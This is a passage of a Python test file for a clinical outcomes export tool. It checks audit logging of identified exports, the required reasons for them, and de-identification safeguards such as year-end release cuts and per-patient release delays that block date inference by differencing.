        exports.export(db, planted.users["qi"], "dataset", "csv", deidentified=False, as_of=END, reason="x",
                       settings=SETTINGS, now=NOW)
    denied = storage.load_audit_log(db, action="access_denied").iloc[0]
    assert denied["actor"] == "quinn.qi" and json.loads(denied["details"])["attempted"] == "export"
    for reason in (None, "   "):
        with pytest.raises(ValidationError, match="needs a reason"):
            exports.export(db, planted.users["clinician"], "dataset", "csv", deidentified=False, as_of=END,
                           reason=reason, settings=SETTINGS, now=NOW)
    assert len(_exports_logged(db)) == before
    file = exports.export(db, planted.users["clinician"], "fhir", "json", deidentified=False, as_of=END,
                          reason="  registry submission  ", settings=SETTINGS, now=NOW)
    details = json.loads(_exports_logged(db).iloc[0]["details"])
    assert details == {"what": "fhir (identified)", "rows": file.rows, "deidentified": False,
                       "format": "json", "filters": {"as_of": "2025-06-01"}, "reason": "registry submission"}


@pytest.mark.slow
def test_the_command_line_exports_and_audits(planted, tmp_path, monkeypatch):
    monkeypatch.setattr("getpass.getuser", lambda: "analyst")
    out, err = io.StringIO(), io.StringIO()
    target = tmp_path / "summary.xlsx"
    code = main(["export", "summary", "--db", str(planted.path), "--out", str(target), "--format", "xlsx",
                 "--as-of", "2025-06-01"], stdout=out, stderr=err)
    assert code == 0, err.getvalue()
    assert "audited as cli:analyst" in out.getvalue() and target.read_bytes()[:2] == b"PK"
    entry = _exports_logged(planted.open()).iloc[0]
    assert entry["actor"] == "cli:analyst"
    assert json.loads(entry["details"])["what"] == "summary (de-identified)"
    code = main(["export", "identified", "--db", str(planted.path), "--out", str(tmp_path / "x.zip")],
                stdout=out, stderr=err)
    assert code == 1 and "needs a reason" in err.getvalue()
    code = main(["export", "fhir", "--identified", "--reason", "registry", "--db", str(planted.path),
                 "--out", str(tmp_path / "x.json"), "--as-of", "2025-06-01"], stdout=out, stderr=err)
    assert code == 0 and PLANT["patient_id"] in (tmp_path / "x.json").read_text()
    assert json.loads(_exports_logged(planted.open()).iloc[0]["details"])["reason"] == "registry"


# Dates by differencing (security issue, finding 1) -------------------------------------------------------


def test_deidentified_files_are_cut_at_a_year_or_month_end_never_a_chosen_day(source):
    for day in (date(2025, 6, 1), date(2025, 1, 1), date(2025, 12, 30)):
        assert exports.release_cut("dataset", day, deidentified=True).date() == date(day.year - 1, 12, 31)
        assert exports.release_cut("fhir", day, deidentified=True).date() == date(day.year - 1, 12, 31)
    assert exports.release_cut("dataset", date(2024, 12, 31), deidentified=True).date() == date(2024, 12, 31)
    assert exports.release_cut("summary", date(2025, 6, 1), deidentified=True).date() == date(2025, 5, 31)
    assert exports.release_cut("summary", date(2024, 2, 29), deidentified=True).date() == date(2024, 2, 29)
    assert exports.release_cut("dataset", date(2025, 6, 1), deidentified=False).date() == date(2025, 6, 1)
    years = exports.cut_choices("dataset", deidentified=True, today=date(2025, 6, 1))
    months = exports.cut_choices("summary", deidentified=True, today=date(2025, 6, 1))
    assert years[:2] == [date(2024, 12, 31), date(2023, 12, 31)]
    assert months[:2] == [date(2025, 5, 31), date(2025, 4, 30)]
    assert exports.cut_choices("dataset", deidentified=False, today=date(2025, 6, 1)) == []
    # Any day asked gives the file of its year end: two days apart, the same bytes.
    a = build(source, "dataset", "csv", as_of=date(2025, 3, 1))
    b = build(source, "dataset", "csv", as_of=date(2025, 3, 2))
    assert a.data == b.data and a.filename == "outcomes-dataset-deidentified-2024.csv.zip"
    texts = "\n".join(file_texts(a.data, a.filename).values())
    assert "2024-12-31" not in texts and "2025-03-01" not in texts
    assert "as_of: 2024: data through the end of 2024" in texts


def test_a_released_episode_is_the_same_in_every_later_file(source):
    early, late = (build(source, "dataset", "csv", as_of=date(y, 12, 31)).tables for y in (2023, 2024))
    key = ["pseudonym", "episode"]
    before = early["episodes"].set_index(key)
    after = late["episodes"].set_index(key).loc[before.index]
    assert 0 < len(before) < len(late["episodes"])
    moving = ("next_episode_day", "disposition", "diagnosis", "protocol")   # documented (docs/privacy.md)
    stable = [c for c in before.columns if c not in moving]
    pd.testing.assert_frame_equal(before[stable], after[stable])
    for table in ("scores",):
        old = early[table].merge(before.reset_index()[key], on=key)
        new = late[table].merge(before.reset_index()[key], on=key)
        pd.testing.assert_frame_equal(old.reset_index(drop=True), new.reset_index(drop=True))


def test_an_episode_is_released_when_its_follow_up_and_the_patients_delay_have_passed(source):
    from outcomes import disclosure

    cut = pd.Timestamp("2024-12-31")
    released, scores = exports.released(source, cut, SETTINGS)
    series = source.series
    due = series["last_infusion"] + pd.to_timedelta(
        224 + series["patient_id"].map(lambda p: disclosure.release_delay(SECRET, p)), unit="D")
    assert sorted(released["series_id"]) == sorted(series.loc[due <= cut, "series_id"])
    delays = series["patient_id"].map(lambda p: disclosure.release_delay(SECRET, p))
    assert delays.between(0, 364).all() and delays.nunique() > 50       # spread over the year
    assert (released["follow_up_end"] <= released["closes"]).all()
    assert scores["assessed_on"].max() <= released["closes"].max() <= cut


def test_a_future_cut_is_refused(planted):
    db = planted.open()
    with pytest.raises(ValidationError, match="in the future"):
        exports.export(db, planted.users["qi"], "summary", "csv", as_of=date(2025, 7, 31), settings=SETTINGS,
                       now=NOW)
    db.close()


def test_all_series_tables_are_refused_when_few_repeat_series_were_released(planted):
    db = planted.open()
    src = exports.load_source(db)
    db.close()
    released, _ = exports.released(src, pd.Timestamp("2025-05-31"), SETTINGS)
    repeats = released[released["series_number"] > 1]
    assert len(repeats) > 10
    keep = set(released.loc[released["series_number"] == 1, "series_id"]) | set(repeats["series_id"][:3])
    few = exports.Source(src.patients, src.series[src.series["series_id"].isin(keep)], src.assessments,
                         SECRET)
    with pytest.raises(ValidationError, match="export each patient's first series"):
        build(few, "summary", "csv", series="all")
    assert build(few, "summary", "csv", series="first").tables["table1"] is not None
